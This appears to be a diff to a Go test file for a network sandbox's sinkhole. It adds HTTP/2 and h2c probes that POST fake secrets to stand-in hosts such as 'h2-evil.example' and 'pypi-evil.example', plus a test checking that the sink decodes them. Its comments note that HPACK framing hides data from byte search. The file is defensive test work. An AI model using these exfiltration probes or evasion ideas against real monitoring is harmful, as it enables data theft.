@@ -20,6 +20,8 @@ import (
 	"testing"
 	"time"
 
+	"golang.org/x/net/http2"
+
 	"github.com/moat-sandbox/moat"
 	"github.com/moat-sandbox/moat/internal/sandbox/netns"
 )
@@ -150,7 +152,57 @@ func get(method, url string, body string, hdr ...string) (string, error) {
 	return resp.Status + " " + string(b), err
 }
 
+// get2 does one HTTP/2 request through the stack: over TLS with ALPN
+// "h2" alone (a client that insists on HTTP/2), or, with plain, over TCP
+// with prior knowledge (h2c). Its header and body are HPACK- and
+// frame-coded: no byte search of the flow finds them.
+func get2(plain bool, url, body string, hdr ...string) (string, error) {
+	pool := x509.NewCertPool()
+	pool.AppendCertsFromPEM(stackCA)
+	dial := func(ctx context.Context, network, addr string, cfg *tls.Config) (net.Conn, error) {
+		host, port, _ := net.SplitHostPort(addr)
+		a, err := lookupA(host)
+		if err != nil {
+			return nil, err
+		}
+		c, err := net.Dial(network, net.JoinHostPort(a, port))
+		if err != nil || plain {
+			return c, err
+		}
+		cfg = cfg.Clone()
+		cfg.ServerName = host
+		tc := tls.Client(c, cfg)
+		if err := tc.HandshakeContext(ctx); err != nil {
+			c.Close()
+			return nil, err
+		}
+		return tc, nil
+	}
+	tr := &http2.Transport{AllowHTTP: plain, TLSClientConfig: &tls.Config{RootCAs: pool}, DialTLSContext: dial}
+	c := &http.Client{Timeout: 5 * time.Second, Transport: tr}
+	req, err := http.NewRequest("POST", url, strings.NewReader(body))
+	if err != nil {
+		return "", err
+	}
+	for i := 0; i+1 < len(hdr); i += 2 {
+		req.Header.Set(hdr[i], hdr[i+1])
+	}
+	resp, err := c.Do(req)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+	b, err := io.ReadAll(resp.Body)
+	return resp.Proto + " " + resp.Status + " " + string(b), err
+}
+
 var probes = map[string]func() (string, error){
+	"h2c": func() (string, error) {
+		return get2(true, "http://h2c-evil.example/up?k=1", "body=h2bodyvalue", "X-Token", "h2headervalue")
+	},
+	"h2": func() (string, error) {
+		return get2(false, "https://h2-evil.example/up?k=2", "body=h2bodyvalue", "X-Token", "h2headervalue")
+	},
 	"https": func() (string, error) {
 		return get("POST", "https://pypi-evil.example/x?k=1", "stolen=s3cr3tvalue")
 	},
@@ -362,6 +414,31 @@ func TestSinkholeHTTPS(t *testing.T) {
 	if c == nil || c.Name != "pypi-evil.example" || c.Path != "/x?k=1" || !strings.Contains(c.Data, "stolen=s3cr3tvalue") ||
 		!strings.HasPrefix(c.Data, "POST /x?k=1 HTTP/1.1") {
 		t.Fatalf("events: %+v", rep.Events)
+	}
+}
+
+// TestSinkholeHTTP2: a client that speaks HTTP/2 alone, with prior
+// knowledge over TCP (h2c) or over TLS with ALPN "h2" and nothing else,
+// gets its answer, and the sink records each request decoded: method,
+// authority, path, HPACK-coded headers and the DATA frames' body in clear.
+// Before, the h2c request was kept as HPACK (a Huffman-coded header is
+// no byte string of its value) and unanswered; the TLS handshake failed
+// (no protocol in common): neither header nor body was seen.
+func TestSinkholeHTTP2(t *testing.T) {
+	for _, tc := range []struct{ probe, detail, path string }{
+		{"h2c", "sinkholed tcp h2c http/2 POST host=h2c-evil.example", "/up?k=1"},
+		{"h2", "sinkholed tcp tls sni=h2-evil.example decrypted https/2 POST host=h2-evil.example", "/up?k=2"},
+	} {
+		t.Run(tc.probe, func(t *testing.T) {
+			rep := runChild(t, "sinkhole", tc.probe)
+			if rep.Err != "" || rep.Result != "HTTP/2.0 200 OK " {
+				t.Errorf("probe: %q %q", rep.Result, rep.Err)
+			}
+			c := findDetail(rep.Events, "connect", tc.detail)
+			if c == nil || c.Path != tc.path || !strings.Contains(c.Data, "x-token: h2headervalue") || !strings.Contains(c.Data, "body=h2bodyvalue") {
+				t.Fatalf("events: %+v", rep.Events)
+			}
+		})
 	}
 }
 
